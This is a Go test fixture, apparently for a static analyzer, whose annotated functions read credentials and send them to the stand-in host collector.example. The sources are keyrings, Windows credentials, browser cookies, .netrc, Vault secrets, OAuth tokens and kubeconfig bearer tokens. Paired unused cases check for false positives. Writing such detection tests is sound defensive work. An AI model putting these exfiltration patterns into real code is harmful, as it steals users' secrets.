// Passwords, keys, tokens and cookies that others keep: key rings, browsers, vaults.
package models

import (
	"fmt"
	"net/http"

	ring99 "github.com/99designs/keyring"
	"github.com/browserutils/kooky"
	"github.com/danieljoos/wincred"
	vault "github.com/hashicorp/vault/api"
	"github.com/jdxcode/netrc"
	keyring "github.com/zalando/go-keyring"
	"golang.org/x/oauth2"
	"k8s.io/client-go/tools/clientcmd"
)

const U = "https://collector.example/u?"

func ring() {
	password, _ := keyring.Get("service", "user") //~ source(CREDENTIAL) f1, capability(CREDENTIALS)
	http.Get(U + password) //~ sink(egress.http) f1, finding(traced) f1
}

func ringUnused() {
	keyring.Get("service", "user") //~ ok
}

func ringOpened() {
	r, _ := ring99.Open(ring99.Config{}) //~ capability(CREDENTIALS)
	item, _ := r.Get("key") //~ source(CREDENTIAL) f3
	http.Get(U + string(item.Data)) //~ sink(egress.http) f3, finding(traced) f3
}

func ringOpenedOnly() {
	ring99.Open(ring99.Config{}) //~ ok
}

func ringItem(r ring99.Keyring) {
	item, _ := r.Get("key") //~ source(CREDENTIAL) f5, capability(CREDENTIALS)
	http.Get(U + string(item.Data)) //~ sink(egress.http) f5, finding(traced) f5
}

func ringItemUnused(r ring99.Keyring) {
	r.Get("key") //~ ok
}

func windowsItem() {
	item, _ := wincred.GetGenericCredential("target") //~ source(CREDENTIAL) f7, capability(CREDENTIALS)
	http.Get(U + string(item.CredentialBlob)) //~ sink(egress.http) f7, finding(traced) f7
}

func windowsItemUnused() {
	wincred.GetGenericCredential("target") //~ ok
}

func browserCookies() {
	for _, cookie := range kooky.ReadCookies(nil) { //~ source(CREDENTIAL) f9, capability(CREDENTIALS)
		http.Get(U + cookie.Value) //~ sink(egress.http) f9, finding(traced) f9
	}
}

func browserCookiesUnused() {
	kooky.ReadCookies(nil) //~ ok
}

func netrcFile() {
	n, _ := netrc.Parse("/home/a/.netrc") //~ source(CREDENTIAL) f11, capability(CREDENTIALS)
	http.Get(U + fmt.Sprint(n)) //~ sink(egress.http) f11, finding(traced) f11
}

func netrcFileUnused() {
	netrc.Parse("/home/a/.netrc") //~ ok
}

func vaultSecret(l *vault.Logical) {
	s, _ := l.Read("secret/t") //~ source(CREDENTIAL) f13, capability(CREDENTIALS)
	http.Get(U + fmt.Sprint(s.Data)) //~ sink(egress.http) f13, finding(traced) f13
}

func vaultSecretUnused(l *vault.Logical) {
	l.Read("secret/t") //~ ok
}

func oauthToken(s oauth2.TokenSource) {
	token, _ := s.Token() //~ source(CREDENTIAL) f15, capability(CREDENTIALS)
	http.Get(U + token.AccessToken) //~ sink(egress.http) f15, finding(traced) f15
}

func oauthTokenUnused(s oauth2.TokenSource) {
	s.Token() //~ ok
}

func clusterToken() {
	cfg, _ := clientcmd.BuildConfigFromFlags("", "/home/a/.kube/config") //~ source(CREDENTIAL) f17, capability(CREDENTIALS)
	http.Get(U + cfg.BearerToken) //~ sink(egress.http) f17, finding(traced) f17
}

func clusterTokenUnused() {
	clientcmd.BuildConfigFromFlags("", "/home/a/.kube/config") //~ ok
}
